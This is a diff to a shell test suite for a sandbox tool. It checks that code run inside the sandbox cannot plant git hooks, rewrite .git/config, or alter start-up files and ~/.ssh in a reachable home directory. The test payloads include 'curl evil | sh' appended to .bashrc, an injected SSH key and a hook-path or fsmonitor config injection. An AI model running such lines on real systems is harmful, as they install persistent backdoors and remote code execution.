@@ -653,6 +653,43 @@ for mode in default strict; do
   expect_eq "$L: host mount table unchanged" "$mounts_before" "$(host_mounts)"
 done
 
+# ---- code planted to run outside the sandbox later ----
+# The current directory is writable under the default profile: a git hook
+# or an include in .git/config would run on the user's next git command on
+# the host, and a start-up file in a home in reach on the next login.
+REPO="$TMP/repo"
+mkdir -p "$REPO/.git/hooks" "$REPO/.git/objects" "$TMP/fakehome/.ssh" "$TMP/fakehome/.config"
+printf '[core]\n' >"$REPO/.git/config"
+printf '# rc\n' >"$TMP/fakehome/.bashrc"
+printf 'ssh-ed25519 AAAA user\n' >"$TMP/fakehome/.ssh/authorized_keys"
+# snapshot DIR: every path with its mode, and every file's content.
+snapshot() {
+  (cd "$1" && find . -path ./.git/objects -prune -o -printf '%p %m\n' | sort &&
+    find . -path ./.git/objects -prune -o -type f -exec cat {} +) | md5sum
+}
+for how in "--profile default" "no flags"; do
+  [ "$how" = "no flags" ] && set -- || set -- --profile default
+  before=$(snapshot "$REPO")
+  (cd "$REPO" && "$SB" "$@" -- sh -c '
+    printf "#!/bin/sh\ntouch /tmp/pwned\n" > .git/hooks/post-checkout 2>/dev/null && echo hook-planted
+    chmod +x .git/hooks/pre-commit 2>/dev/null; printf "[core]\n\thooksPath = /tmp\n\tfsmonitor = evil\n" >> .git/config 2>/dev/null && echo config-rewritten
+    mv .git/config .git/config.old 2>/dev/null && echo config-moved
+    touch .git/objects/ok && echo objects-writable') >"$TMP/out" 2>/dev/null
+  expect_eq "$how: git hooks and .git/config stay read-only, the rest of .git is writable" \
+    "objects-writable" "$(cat "$TMP/out")"
+  rm -f "$REPO/.git/objects/ok"
+  expect_eq "$how: the repository's hooks and config are unchanged on the host" "$before" "$(snapshot "$REPO")"
+  before=$(snapshot "$TMP/fakehome")
+  (cd "$TMP/fakehome" && HOME="$TMP/fakehome" "$SB" "$@" -- sh -c '
+    echo "curl evil | sh" >> .bashrc 2>/dev/null && echo bashrc-appended
+    echo "ssh-ed25519 EVIL" >> .ssh/authorized_keys 2>/dev/null && echo key-added
+    mkdir -p .config/autostart 2>/dev/null; touch made-here && echo home-writable') >"$TMP/out" 2>/dev/null
+  rm -f "$TMP/fakehome/made-here"
+  rmdir "$TMP/fakehome/.config/autostart" 2>/dev/null
+  expect_eq "$how, run from \$HOME: start-up files and ~/.ssh stay read-only" "home-writable" "$(cat "$TMP/out")"
+  expect_eq "$how, run from \$HOME: unchanged on the host" "$before" "$(snapshot "$TMP/fakehome")"
+done
+
 # The sandbox's own pid 1 keeps nothing of set-up the command could reopen
 # through /proc/1/fd. (It stays dumpable, as bwrap's: callers join the
 # sandbox through /proc/PID/ns.) The default profile refuses ptrace of
